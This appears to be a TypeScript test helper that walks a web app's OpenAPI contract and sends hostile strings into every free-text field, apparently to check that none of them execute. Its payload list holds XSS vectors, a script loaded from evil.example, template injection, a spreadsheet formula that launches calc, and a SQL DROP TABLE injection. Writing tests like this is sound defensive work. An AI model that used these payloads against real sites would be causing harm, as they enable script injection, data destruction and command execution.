// Text that wants to be more than text, and a workspace made of nothing else: every field that
// takes words is filled with some of it, as the contract counts the fields.
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';

// Each calls `ran` if it is ever taken for code, or asks evil.example for something, or leaves an
// element of the class `hostile` behind, or bursts its line.
const texts = [
    '<img src=x onerror=ran(1)>',
    '"><script>ran(2)</script>',
    "' autofocus onfocus='ran(3)' x='",
    '<svg/onload=ran(4)>',
    'javascript:ran(5)//',
    '</textarea></title><script src=//evil.example/x.js></script>',
    `{{7*7}} $\{7*7} {{constructor.constructor('ran(6)')()}}`,
    '<b class="hostile">bold</b><style>*{display:none}</style>',
    '<a href="javascript:ran(7)">press</a>',
    '\u202Egnp.elif\u202C \u2067right to left\u2069 \u200F',
    'Donaudampfschifffahrtsgesellschaft'.repeat(3).slice(0, 90),
    '👩‍👩‍👧‍👦 🏴‍☠️ Z̸̢̛͔͇a̵̰̓l̶̙͝g̵̦̈ó̵ 値引き',
    '\u2400 \uFEFF \u200B \uFFFD %00 \\0 \\u0000 &#0; &lt;b&gt; &amp;',
    "=cmd|'/c calc'!A1",
    "'; DROP TABLE deals; --",
    '<iframe srcdoc="<script>parent.ran(8)</script>">',
    '<!-- ]]> */ `$' + '{ran(9)}`',
    'url(//evil.example/a.png) [a](javascript:ran(10)) %s %d',
    '<math><mtext><img src=//evil.example/b.png></mtext></math>',
    '__proto__ constructor toString undefined null NaN',
];
export const how_many = texts.length;

// Texts in turn, each with a number of its own, so that one can be told from another.
export class Planter {
    readonly sent: string[] = [];
    text(most = 200): string {
        for (let skipped = 0; skipped <= texts.length; skipped += 1) {
            const number = this.#next;
            this.#next += 1;
            const text = `${texts[number % texts.length]} #${number}`;
            if (text.length > most) continue;
            this.sent.push(text);
            return text;
        }
        throw new Error(`no text is as short as ${most}`);
    }
    // Longer than any line, without a space to break at.
    long(length: number): string {
        const text = `${'W'.repeat(length - 6)} #${this.#next}`;
        this.#next += 1;
        this.sent.push(text);
        return text;
    }
    #next = 0;
}

interface Schema {
    $ref?: string;
    type?: string | string[];
    format?: string;
    pattern?: string;
    enum?: string[];
    properties?: Record<string, Schema>;
    items?: Schema;
    anyOf?: Schema[];
    oneOf?: Schema[];
    allOf?: Schema[];
}
interface Contract {
    paths: Record<
        string,
        Record<
            string,
            { operationId: string; requestBody?: { content: Record<string, { schema: Schema }> } }
        >
    >;
    components: { schemas: Record<string, Schema> };
}
const contract: Contract = JSON.parse(
    readFileSync(resolve(join(import.meta.dirname, '../../src/api/openapi.json')), 'utf8'),
);

// What a field takes that is no text: a name among names the program gives, a secret, an address
// that is checked for its form, or a sketch that nobody keeps.
const no_text = [
    /^(sign_in|sign_in_by_link|take_local_token|verify_data|rebuild_data|back_up|set_password|choose_password)\./,
    /^(check_plan|check_debrief|check_ideal_customer|check_settings|check_plan_template|sketch_plan)\./,
    /^set_up\.(secret|password|time_zone|email)$/,
    /^(subscribe|connect)_calendar\.(address|user|password)$/,
    /^find_calendars\./,
    /\.(email|time_zone|colour)$/,
    /^enter_stage\.stage$/,
    /\.play$/,
    /\.proves$/,
    /^(add_view|change_view)\.query$/,
    /^change_settings\.((stages|plays)\[\]\.id|rules|plays_off)/,
    /^(add|change)_plan_template\.plan\.lines\[\]\.(key|when\.line)$/,
    /^start_plan\.(template|lines\[\]\.key)$/,
    /^save_mapping\.mapping\.uses\[\]\.words\[\]\.to$/,
];

function text_fields(schema: Schema, at: string, found: Set<string>): void {
    if (schema.$ref) {
        const named = contract.components.schemas[schema.$ref.split('/').at(-1) ?? ''];
        if (named) text_fields(named, at, found);
        return;
    }
    for (const one of [...(schema.anyOf ?? []), ...(schema.oneOf ?? []), ...(schema.allOf ?? [])])
        text_fields(one, at, found);
    for (const [name, field] of Object.entries(schema.properties ?? {}))
        text_fields(field, `${at}.${name}`, found);
    if (schema.items) text_fields(schema.items, `${at}[]`, found);
    const free = !schema.format && !schema.enum && !schema.pattern;
    if ([schema.type].flat().includes('string') && free && !no_text.some((no) => no.test(at)))
        found.add(at);
}

function operation(verb: string, path: string) {
    for (const [pattern, verbs] of Object.entries(contract.paths)) {
        const like = new RegExp(`^${pattern.replace(/\{[^}]*\}/g, '[^/]+')}$`);
        const found = verbs[verb.toLowerCase()];
        if (found && like.test(path)) return found;
    }
    throw new Error(`the contract has no ${verb} ${path}`);
}

export function every_text_field(): Set<string> {
    const found = new Set<string>();
    for (const verbs of Object.values(contract.paths))
        for (const { operationId, requestBody } of Object.values(verbs)) {
            const body = requestBody?.content['application/json'];
            if (body) text_fields(body.schema, operationId, found);
        }
    return found;
}

function filled(value: unknown, at: string, found: Set<string>): void {
    if (typeof value === 'string') found.add(at);
    else if (Array.isArray(value)) for (const one of value) filled(one, `${at}[]`, found);
    else if (typeof value === 'object' && value !== null)
        for (const [name, one] of Object.entries(value)) filled(one, `${at}.${name}`, found);
}

// Writes by a token, as a script does, and notes which fields it has filled.
export class Writer {
    readonly filled = new Set<string>();
    readonly answered = new Set<string>(); // Every string of every answer.
    constructor(
        private readonly url: string,
        private readonly token: string,
    ) {}
    last = ''; // The version of what was answered last, as If-Match wants it.
    async send<T>(verb: string, path: string, body?: unknown, match?: string): Promise<T> {
        const answer = await fetch(`${this.url}/api/v1${path}`, {
            method: verb,
            headers: {
                Authorization: `Bearer ${this.token}`,
                'Idempotency-Key': randomUUID(),
                ...(body !== undefined && { 'Content-Type': 'application/json' }),
                ...(match && { 'If-Match': match }),
            },
            ...(body !== undefined && { body: JSON.stringify(body) }),
        });
        const text = await answer.text();
        if (!answer.ok)
            throw new Error(`${verb} ${path}: ${text}\n${JSON.stringify(body ?? null)}`);
        this.last = answer.headers.get('ETag') ?? '';
        if (body !== undefined) filled(body, operation(verb, path).operationId, this.filled);
        if (!text) return undefined as T;
        const said = JSON.parse(text) as T;
        strings_in(said, this.answered);
        return said;
    }
    get<T>(path: string): Promise<T> {
        return this.send<T>('GET', path);
    }
}

// Every string of an answer.
function strings_in(value: unknown, found: Set<string>): void {
    if (typeof value === 'string') found.add(value);
    else if (typeof value === 'object' && value !== null)
        for (const one of Object.values(value)) strings_in(one, found);
}
